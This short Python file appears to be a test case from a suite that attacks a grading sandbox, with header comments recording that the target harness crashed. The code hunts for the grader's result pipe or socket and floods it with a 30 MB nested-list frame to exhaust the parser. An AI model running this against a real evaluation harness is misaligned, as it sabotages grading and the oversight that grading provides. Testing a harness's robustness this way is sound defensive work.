# ATTACK: writes a 30 MB frame of nested empty lists to its result pipe (~10 million lists once parsed)
# TARGET: ex01_torch_mlp
# STATUS: crashed
# FAILS: all
# MESSAGE: does not accept
import fcntl
import os
import stat
import struct

_body = b"[" + b"[]," * (10 * 1024 * 1024) + b"[]]"
for _fd in range(3, 1025):
    try:
        _mode = os.fstat(_fd).st_mode  # the result channel: a pipe's write end, or the socket on fd 1000
        if (stat.S_ISFIFO(_mode) and fcntl.fcntl(_fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
                or stat.S_ISSOCK(_mode) and _fd == 1000):
            os.write(_fd, struct.pack(">Q", len(_body)) + _body)
    except OSError:
        pass
